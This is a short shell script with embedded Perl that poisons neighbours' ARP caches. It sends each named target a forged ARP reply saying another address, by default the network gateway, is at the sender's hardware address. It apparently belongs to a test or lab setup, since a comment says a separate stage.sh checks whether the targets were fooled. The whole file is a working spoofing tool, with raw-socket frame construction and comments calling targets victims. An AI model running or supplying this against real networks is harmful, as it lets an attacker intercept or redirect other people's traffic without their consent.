#!/bin/sh
# Tells each neighbour that somebody else's address is at our hardware address. probe NAME=ADDRESS=CLAIMED...
# stage.sh looks afterwards whether they believe it.
exec perl -MSocket -e '
	use strict;
	use warnings;
	my ($af_packet, $eth_p_arp) = (17, 0x0806);
	$| = 1;
	sub resolved { my $found; for (1 .. 20) { $found = inet_aton($_[0]) and last; select undef, undef, undef, 0.3 } return $found }
	# The interface whose network holds the address, and the first address of that network.
	sub interface {
		my $wanted = unpack "N", $_[0];
		open my $routes, "<", "/proc/net/route" or return;
		for (<$routes>) {
			my ($name, $to, $by, $mask) = (split)[0, 1, 2, 7];
			next if $name eq "Iface" or $by ne "00000000";
			my ($network, $bits) = map { unpack "N", pack "V", hex } $to, $mask;
			return ($name, pack "N", $network + 1) if $bits and ($wanted & $bits) == $network;
		}
		return;
	}
	sub read_line { open my $file, "<", $_[0] or return ""; my $line = <$file>; chomp $line; return $line }
	sub hardware { my ($address) = @_; open my $table, "<", "/proc/net/arp" or return; for (<$table>) { my @column = split; return $column[3] if $column[0] eq $address } return }
	my $done = 0;
	for my $word (@ARGV) {
		my ($name, $host, $claimed) = split /=/, $word;
		my $victim = resolved($host) or do { print "$name is not to be found from here\n"; next };
		my ($device, $first) = interface($victim) or do { print "$name stands on no network of ours\n"; next };
		# A neighbour that has just started has not finished its own network.
		if ($claimed eq "gateway") { $claimed = $first; sleep 1 } else { $claimed = inet_aton($claimed) }
		socket(my $raw, $af_packet, SOCK_RAW, unpack "S", pack "n", $eth_p_arp) or do { print "a raw packet socket: $!\n"; next };
		# A connection, answered or not, teaches our own kernel where the victim is.
		if (fork == 0) { socket(my $tcp, PF_INET, SOCK_STREAM, 0); alarm 1; connect $tcp, sockaddr_in(8080, $victim); exit }
		wait;
		my $theirs = hardware(inet_ntoa($victim)) or do { print "$name has no hardware address\n"; next };
		my $ours = read_line("/sys/class/net/$device/address");
		my ($to, $from) = map { pack "H*", join "", split /:/ } $theirs, $ours;
		my $frame = $to . $from . pack("n", $eth_p_arp) . pack("nnCCn", 1, 0x0800, 6, 4, 1) . $from . $claimed . ("\0" x 6) . $victim;
		my $index = read_line("/sys/class/net/$device/ifindex");
		my $where = pack "SnlSCCa8", $af_packet, $eth_p_arp, $index, 1, 0, 6, $to;
		send($raw, $frame, 0, $where) or do { print "sending: $!\n"; next };
		printf "forged for %s: %s is at %s\n", $name, inet_ntoa($claimed), $ours;
		$done++;
	}
	print "there is nobody to deceive\n" unless @ARGV;
	exit($done ? 0 : 1);
' "$@"
